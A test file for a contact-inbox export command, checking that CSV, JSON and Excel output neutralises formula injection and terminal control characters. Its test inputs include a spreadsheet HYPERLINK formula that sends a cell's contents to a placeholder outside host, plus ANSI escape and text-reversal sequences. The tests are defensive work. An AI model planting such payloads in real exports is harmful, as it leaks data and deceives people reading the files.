import { readXlsx } from 'hucre/xlsx';
import { describe, expect, test } from 'vitest';
import type { ExportedRequest } from '#lib/inbox/export-table.ts';
import { words } from '#src/brand.ts';
import { parseArguments } from '../arguments.ts';
import type { DecryptedStoredRequest } from '../decrypter.ts';
import { UsageError } from '../terminal.ts';
import { exportCsv, exportJson, exportXlsx, parseExportOptions, toExportedRequest } from './export.ts';

const stored: DecryptedStoredRequest = {
  reference: 'VR-7K3Q-9F2M',
  dedupe_key: 'the key',
  content_hash: 'a hash',
  name: 'Ada Byron',
  email: 'ada@example.com',
  phone: '+44 20 7946 0018',
  company: '',
  service_interest: 'luxury-travel',
  message: 'Two weeks in June.',
  language: 'ja',
  received_at: '2026-03-06T21:30:00.000Z',
  answered_at: null,
  reply_by: '2026-03-09T13:30:00.000Z',
  text_fingerprint: null,
  remind_at: null,
  doubts: null,
  cleared_at: null,
  taken_by: null,
  taken_at: null,
  answered_by: null,
  sealed_with: null,
  sender_trace: null,
  sealed: null,
  failure: undefined,
};

const header = [
  ...['reference', 'receivedAt', 'replyBy', 'takenBy', 'takenAt', 'answeredBy', 'answeredAt'],
  ...['name', 'email', 'phone', 'company', 'serviceInterest', 'message', 'language', 'doubtful', 'sealed'],
];

async function* rowsOf(changes: readonly Partial<DecryptedStoredRequest>[]) {
  for (const change of changes) yield toExportedRequest({ ...stored, ...change }, words);
}

const exported = async (
  as: (rows: AsyncIterable<ExportedRequest>) => AsyncIterable<string>,
  changes: readonly Partial<DecryptedStoredRequest>[],
) => (await Array.fromAsync(as(rowsOf(changes)))).join('');

function parseCsv(text: string): string[][] {
  const records: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const [, quoted, plain = '', end] = cell.exec(text) ?? [];
    if (end === undefined) throw new Error(`no cell at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`);
    records.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end !== ',') records.push([]);
  }
  return records.slice(0, -1);
}

async function exportToCsv(
  changes: readonly Partial<DecryptedStoredRequest>[],
): Promise<Record<string, string>[]> {
  const text = await exported(exportCsv, changes);
  expect(Buffer.from(text).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  const [names = [], ...records] = parseCsv(text.slice(1));
  expect(names).toEqual(header);
  for (const record of records) expect(record).toHaveLength(header.length);
  return records.map((record) => Object.fromEntries(names.map((name, i) => [name, record[i] ?? ''])));
}

const exportToJson = async (changes: readonly Partial<DecryptedStoredRequest>[]) =>
  JSON.parse(await exported(exportJson, changes));

const answered: Partial<DecryptedStoredRequest> = {
  taken_by: 'MB',
  taken_at: '2026-03-09T13:01:00.000Z',
  answered_by: 'KL',
  answered_at: '2026-03-09T13:12:00.000Z',
};

describe('CSV', () => {
  test('has a header, and a line for each request, with the service by its label', async () => {
    expect(await exportToCsv([])).toEqual([]);
    expect(
      await exportToCsv([answered, { service_interest: '' }, { service_interest: 'yachts' }]),
    ).toMatchObject([
      {
        reference: 'VR-7K3Q-9F2M',
        receivedAt: '2026-03-06T21:30:00.000Z',
        replyBy: '2026-03-09T13:30:00.000Z',
        takenBy: 'MB',
        takenAt: '2026-03-09T13:01:00.000Z',
        answeredBy: 'KL',
        answeredAt: '2026-03-09T13:12:00.000Z',
        name: 'Ada Byron',
        serviceInterest: 'Luxury Travel Curation',
        doubtful: '',
      },
      { takenBy: '', answeredAt: '', serviceInterest: '' },
      { serviceInterest: 'yachts' },
    ]);
  });

  test.each(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])(
    'a visitor’s text that begins with %j is not a formula in any column',
    async (first) => {
      const text = `${first}HYPERLINK("https://x.example?"&A1,"x")`;
      const [request] = await exportToCsv([
        { name: text, email: text, phone: text, company: text, message: text, answered_by: text },
      ]);
      for (const column of ['name', 'email', 'phone', 'company', 'message', 'answeredBy'])
        expect(request?.[column]).toBe(`'${text}`);
    },
  );

  test.each([
    'He said "yes", twice: ""',
    'Please call me\nSecond line',
    'a lone carriage return\rSecond line',
    'both\r\nSecond line',
    'one\ntwo\r\nthree\rfour',
    ',;,"\n"',
    'a "=1+1" in the middle, -5',
    'Hélène, נורה, 健一 🌙',
    ' = after a space',
  ])('%j is unchanged after parsing the CSV', async (message) => {
    expect(await exportToCsv([{ message }, {}])).toMatchObject([{ message }, { message: stored.message }]);
  });

  test.each([
    [';=1+1', ";'=1+1"],
    ['text;"=1+1"', `text;'"=1+1"`],
    ['a;-1;+2;@x', "a;'-1;'+2;'@x"],
    ['first\n=1+1\r\n@x\r-1', "first\n'=1+1\r\n'@x\r'-1"],
    ['tab\t=1+1', "tab\t'=1+1"],
  ])('%j is no formula if semicolons, tabs or line breaks separate cells', async (message, kept) => {
    expect(await exportToCsv([{ message }])).toMatchObject([{ message: kept }]);
  });

  test.each(['0049170123456', '020 7946 0018', '12345678901234567890', '1e5', '12/24'])(
    'the telephone number %s stays text in a spreadsheet',
    async (phone) => {
      expect(await exportToCsv([{ phone }])).toMatchObject([{ phone: `'${phone}` }]);
    },
  );

  test('reasons for doubt are exported until the request is cleared', async () => {
    const doubts = '["links","quick"]';
    expect(await exportToCsv([{ doubts }, { doubts, cleared_at: stored.received_at }])).toMatchObject([
      { doubtful: 'links, quick' },
      { doubtful: '' },
    ]);
  });
});

describe('JSON', () => {
  test('is an array, of none, one or many', async () => {
    for (const many of [0, 1, 3]) expect(await exportToJson(Array(many).fill({}))).toHaveLength(many);
  });

  test('has the columns of CSV only', async () => {
    const [request] = await exportToJson([answered]);
    expect(Object.keys(request)).toEqual(header);
    expect(JSON.stringify(request)).not.toMatch(/hash|the key/);
  });

  test('values are unchanged, and missing ones are null', async () => {
    const message = '=1+1\t"quoted"\r\n＝ \u2028';
    expect(await exportToJson([{ message, doubts: '["links"]' }])).toMatchObject([
      { phone: '+44 20 7946 0018', message, answeredAt: null, doubtful: ['links'] },
    ]);
  });
});

describe('controls of a terminal', () => {
  const message = '\u001b[2J\u0007\u009b1m\u202eesrever\tafter\n\u{1f469}\u200d\u{1f373}';

  test('are written as code points in a cell, except tabs and line breaks', async () => {
    const shown = '\\u{1b}[2J\\u{7}\\u{9b}1m\\u{202e}esrever\tafter\n\u{1f469}\u200d\u{1f373}';
    expect(await exportToCsv([{ message, name: message }])).toMatchObject([{ message: shown, name: shown }]);
  });

  test('are escaped in JSON', async () => {
    const text = await exported(exportJson, [{ message, name: message }]);
    expect(text).not.toMatch(/[\p{Cc}--\n]|\u202e/v);
    expect(JSON.parse(text)).toMatchObject([{ message, name: message }]);
  });
});

describe('a workbook', () => {
  const workbookOf = async (changes: readonly Partial<DecryptedStoredRequest>[]) => {
    const { sheets } = await readXlsx(Buffer.concat(await Array.fromAsync(exportXlsx(rowsOf(changes)))));
    return sheets.map(({ name, rows }) => ({ name, rows }));
  };

  test('has one sheet with the columns of CSV', async () => {
    expect(await workbookOf([])).toEqual([{ name: 'Requests', rows: [header] }]);
    const [sheet] = await workbookOf([answered, {}]);
    expect(sheet?.rows).toHaveLength(3);
    expect(sheet?.rows[1]).toEqual(expect.arrayContaining(['VR-7K3Q-9F2M', 'KL', 'Luxury Travel Curation']));
  });

  test.each([
    '=1+1',
    '@SUM(1)',
    '-5',
    '0049170123456',
    '12345678901234567890',
    '1e5',
    '2026-03-09',
    'TRUE',
    'Please call me\nSecond line; =1+1\n=2',
    '_x003D_1+1',
    'נורה <健一> & "🌙"',
  ])('%j is unchanged in a text cell', async (text) => {
    const [sheet] = await workbookOf([{ name: text, phone: text, message: text }]);
    const row = Object.fromEntries(header.map((name, index) => [name, sheet?.rows[1]?.[index]]));
    expect(row).toMatchObject({ name: text, phone: text, message: text });
  });

  test('has no control characters, and no longer cells than Excel supports', async () => {
    const [sheet] = await workbookOf([{ name: 'a\u0000\u001bb', message: '🌙'.repeat(20_000) }]);
    const [name, message] = ['name', 'message'].map((column) => sheet?.rows[1]?.[header.indexOf(column)]);
    expect(name).toBe('a\\u{0}\\u{1b}b');
    expect(message).toHaveLength(32_767);
    expect(message).toMatch(/🌙\P{Surrogate}?…$/u);
  });
});

test.each([exportCsv, exportJson])('%o writes each request before it reads the next one', async (as) => {
  let asked = 0;
  async function* rows() {
    for (; asked < 3; asked += 1) yield toExportedRequest(stored, words);
  }
  const pieces = as(rows());
  const written: string[] = [];
  for await (const piece of pieces) {
    written.push(piece);
    if (piece.includes(stored.reference)) break;
  }
  expect(written.join('')).toContain(stored.reference);
  expect(asked).toBe(0);
});

describe('the options', () => {
  const read = (typed: string) =>
    parseExportOptions(parseArguments('export', typed.split(' ').filter(Boolean)).options);

  test.each([
    ['', { format: 'csv', since: undefined, output: undefined }],
    ['--format json --since 2026-03-09', { format: 'json', since: new Date('2026-03-09T00:00:00Z') }],
    ['--since=2028-02-29 --format=csv', { format: 'csv', since: new Date('2028-02-29T00:00:00Z') }],
    ['--output a.xlsx --format xlsx', { format: 'xlsx', output: 'a.xlsx' }],
  ])('%s', (typed, meant) => {
    expect(read(typed)).toMatchObject(meant);
  });

  test.each([
    ['--format ods', /got “ods”/],
    ['--output', /--output FILE/],
    ['--since yesterday', /got “yesterday”/],
    ['--since 2026-03-09T10:00', /must be a date/],
    ['--since 2026-02-30', /got “2026-02-30”/],
    ['--since 03/09/2026', /must be a date such as/],
    ['--until 2026-03-09', /^Usage: /],
    ['json', /^Usage: /],
    ['--format \u001b[2J', /got “\\u\{1b\}\[2J”/],
  ])('the error for %j is a sentence', (typed, sentence) => {
    expect(() => read(typed)).toThrow(UsageError);
    expect(() => read(typed)).toThrow(sentence);
  });
});
